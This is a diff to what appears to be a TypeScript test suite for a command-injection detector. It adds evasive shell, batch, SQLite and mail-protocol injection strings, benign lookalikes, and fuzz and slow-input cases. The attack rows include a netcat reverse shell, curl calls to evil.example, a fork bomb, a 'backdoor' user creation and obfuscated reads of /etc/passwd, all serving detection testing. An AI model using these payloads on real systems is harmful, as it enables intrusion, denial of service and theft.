@@ -89,8 +89,8 @@ const ATTACKS: Row[] = [
   // profile and paranoia
   { input: '$(id)', expect: true, profile: 'identifier' },
   { input: 'great product; rm -rf /', expect: true, profile: 'free-text' },
-  { input: '& id', expect: false, note: 'ambiguous at PL1' },
-  { input: '& id', expect: true, paranoia: 3 },
+  { input: '& id', expect: true, note: 'the whole value is a separator and a command (was PL3 only)' },
+  { input: 'Time & date', expect: false, note: 'a phrase, not a lone separator and command' },
   { input: 'whoami', expect: false },
   { input: 'whoami', expect: true, paranoia: 3 },
   {
@@ -128,6 +128,64 @@ const ATTACKS: Row[] = [
   },
   { input: 'ping 127.0.0.1', expect: false, note: 'a lone host argument: PL2' },
   { input: 'ping 127.0.0.1', expect: true, paranoia: 2 },
+  // detect-cmdi-c: tool names with plain arguments, launchers, evasions
+  { input: 'useradd backdoor', expect: true, note: 'a value that is a tool command line' },
+  { input: 'apt-get remove nginx', expect: true },
+  { input: 'Invoke-Expression payload', expect: true, note: 'PowerShell cmdlet with an argument' },
+  { input: '| wget payload', expect: true, note: 'tool name with a plain argument after a separator' },
+  { input: 'time uname', expect: true, note: '`time` in front of a tool name' },
+  { input: 'nohup date', expect: true, note: 'a launcher that is no word' },
+  { input: 'strace cat', expect: true },
+  { input: 'uname;x', expect: true, note: 'a tool name chained by a separator' },
+  { input: 'c"u"rl evil.example', expect: true, note: 'quotes splitting the name at the value start' },
+  { input: 'wh$@oami', expect: true, note: 'special parameter glued inside the name' },
+  { input: 'wh<()oami', expect: true, note: 'empty process substitution inside the name' },
+  { input: 'kill "-"9 1', expect: true, note: 'quotes splitting an argument' },
+  { input: '${`whoami`}', expect: true, note: 'substitution wrapped in a parameter expansion' },
+  { input: '${$(id)}', expect: true },
+  { input: 'a=who;b=ami;$a$b', expect: true, note: 'a command spelled from variables' },
+  { input: 'x=y=nc;$y -e /bin/sh h 1', expect: true, note: 'query-style prefix before the assignment' },
+  { input: 'alias ll=rm', expect: true, note: 'defining an alias' },
+  { input: '; alias x="curl -s"', expect: true },
+  { input: '1;.shell cat /etc/hosts', expect: true, note: 'SQLite dot-command running a program' },
+  { input: 'x;\n.system id', expect: true, note: 'escaped newline before a dot-command' },
+  { input: "';\n.tables", expect: true, note: 'SQLite dot-command on its own line' },
+  { input: 'cat /[e]tc/pas[s]wd', expect: true, note: 'bracket sets in a sensitive path' },
+  { input: 'ls /[v]ar', expect: true },
+  { input: '/[b/]in', expect: true, note: 'bracket set holding a slash' },
+  { input: '{un,xx}ame -a', expect: true, note: 'brace expansion glued into the name' },
+  { input: 'c{a,u}t x', expect: true },
+  { input: 'boom(){ boom|boom& };boom', expect: true, note: 'named fork bomb' },
+  { input: 'go(){ id; }; go', expect: true, note: 'function defined and called' },
+  { input: '$[7*7]', expect: true, note: 'bash arithmetic' },
+  { input: '$(( 6*7 ))', expect: true },
+  { input: '${v##*/}', expect: true, note: 'parameter expansion with an operator' },
+  { input: '${#HOME}', expect: true },
+  { input: 'IF NOT "%x%"=="" (DEL x)', expect: true, note: 'batch if with a block' },
+  { input: 'if/i %a%==b echo y', expect: true },
+  { input: 'if not (1 neq 2) dir', expect: true, note: 'parenthesised condition' },
+  { input: 'for /f "tokens=*" %x in (\'dir /b\') do type %x', expect: true },
+  { input: 'for /f %x in (`dir`) do echo %x', expect: true, note: 'backticks inside the for set' },
+  { input: ';at 23:59 "del x"', expect: true, note: 'Windows scheduler' },
+  { input: '& ipconfig/all', expect: true, note: 'switch glued to the command' },
+  { input: "; trap 'curl -s evil.example' INT", expect: true, note: 'trap running a command' },
+  { input: '| sh # trailing comment', expect: true, note: 'a comment ends the command' },
+  { input: ';column passwd', expect: true, note: 'account file named without its directory' },
+  { input: '; vim f +\\!id', expect: false, note: 'editor shell escape: PL2 like CRS' },
+  { input: '; vim f +\\!id', expect: true, paranoia: 2 },
+  { input: 'lastlog', expect: false, note: 'a lone tool name: PL3' },
+  { input: 'lastlog', expect: true, paranoia: 3 },
+  { input: '127.0.0.1\nid', expect: true, note: 'a probe command alone on an injected line' },
+  // mail protocol lines after a line break
+  { input: 'x\r\nRCPT TO:<victim@example.org>', expect: true, note: 'SMTP' },
+  { input: 'me@example.org\nMAIL FROM:<x@example.org>', expect: true },
+  { input: '\r\nEHLO relay.example.net', expect: true },
+  { input: '\r\nRETR 7', expect: true, note: 'POP3' },
+  { input: '\r\nAPOP bob 0123456789abcdef0123456789abcdef', expect: true },
+  { input: '\r\nb12 FETCH 1:3 (FLAGS)', expect: true, note: 'IMAP' },
+  { input: '\r\nk9 LIST "" "%"', expect: true },
+  { input: '\r\nQUIT', expect: false, note: 'a lone verb: PL3' },
+  { input: '\r\nQUIT', expect: true, paranoia: 3 },
 ];
 
 const BENIGN: Row[] = [
@@ -200,6 +258,33 @@ const BENIGN: Row[] = [
   { input: 'ls -la | grep foo && echo done', expect: false, profile: 'code' },
   { input: 'for f in $(find . -name "*.log"); do gzip "$f"; done', expect: false, profile: 'code' },
   { input: "USAGE=$(df /home | tail -1 | awk '{print $5}')", expect: false, profile: 'code' },
+  // detect-cmdi-c neighbours of the new shapes
+  { input: "I'd like a table for two", expect: false, note: 'a lone apostrophe is no evasion' },
+  { input: "we'd love to", expect: false },
+  { input: 'python tutorial for beginners', expect: false, note: 'a language name is a topic' },
+  { input: 'docker compose up', expect: false },
+  { input: 'wget is the download tool I use every single day', expect: false, note: 'prose about a tool' },
+  { input: 'Lexus LS 460', expect: false },
+  { input: 'B & W', expect: false },
+  { input: 'Total: ${price}', expect: false, note: 'template placeholder' },
+  { input: '${a/b} and ${count%2}', expect: false, note: 'template arithmetic' },
+  { input: 'n=$((n+1))', expect: false, note: 'arithmetic assigned: script style' },
+  { input: 'sum=$((a + b)) total', expect: false, note: 'arithmetic assigned: script style' },
+  { input: 'if (a == b) return x;', expect: false },
+  { input: 'if x == 1: print(x)', expect: false },
+  { input: 'if (i % 2 !== 0) { odd++; }', expect: false, note: 'a modulo is no batch variable' },
+  { input: 'if (it.find(c) == it.end()) {', expect: false },
+  { input: 'render(){ return 1; }', expect: false },
+  { input: 'file{1,2}.txt', expect: false },
+  { input: 'w/o sugar and/or milk', expect: false },
+  { input: 'Dear team,\nlist 3 options below\nthanks', expect: false, note: 'prose lines, not POP3' },
+  { input: 'Notes\nQuit smoking\nData science course', expect: false },
+  { input: 'Hi!cat lovers unite', expect: false },
+  { input: 'alias John Smith', expect: false },
+  { input: 'set passwd', expect: false },
+  { input: '~+5 points', expect: false },
+  { input: 'Meeting\ndate', expect: false, note: 'a word on a second line' },
+  { input: 'Name: Ann\nid', expect: false },
 ];
 
 describe('cmdi detector: table', () => {
@@ -293,6 +378,25 @@ describe('cmdi detector: fuzz', () => {
         'in',
         'do',
         'é',
+        '\r\n',
+        'RETR 1',
+        'a1 fetch 1 (flags)',
+        '$[',
+        ']',
+        '${x#',
+        '{l,',
+        '}s',
+        'alias x=',
+        '.shell',
+        '<()',
+        '$@',
+        'if',
+        '==',
+        '%x%',
+        'time',
+        'f(){ f|f& };f',
+        '\\n',
+        '[e/]',
       ),
       { maxLength: 40 },
     )
@@ -317,17 +421,34 @@ describe('cmdi detector: fuzz', () => {
 });
 
 describe('cmdi detector: adversarial input', () => {
-  it.each(['$(', '`', '${IFS', '${', '{cat,', '; cat ', '/???/', "c'a't ", '() {', '& for %a in ('])(
-    '1 MB of %j completes quickly',
-    (unit) => {
-      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
-      const t0 = performance.now();
-      const out = run(value, 'generic', 3);
-      const ms = performance.now() - t0;
-      expect(Array.isArray(out)).toBe(true);
-      expect(ms).toBeLessThan(500);
-    },
-  );
+  it.each([
+    '$(',
+    '`',
+    '${IFS',
+    '${',
+    '{cat,',
+    '; cat ',
+    '/???/',
+    "c'a't ",
+    '() {',
+    '& for %a in (',
+    '\nRETR 1',
+    '${x#',
+    '$[',
+    '{l,-a}s',
+    'f(){ f|',
+    'if %a%==',
+    'a=b;$a',
+    '/[e/]',
+    '${`',
+  ])('1 MB of %j completes quickly', (unit) => {
+    const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
+    const t0 = performance.now();
+    const out = run(value, 'generic', 3);
+    const ms = performance.now() - t0;
+    expect(Array.isArray(out)).toBe(true);
+    expect(ms).toBeLessThan(500);
+  });
 });
 
 describe('cmdi prefilter', () => {
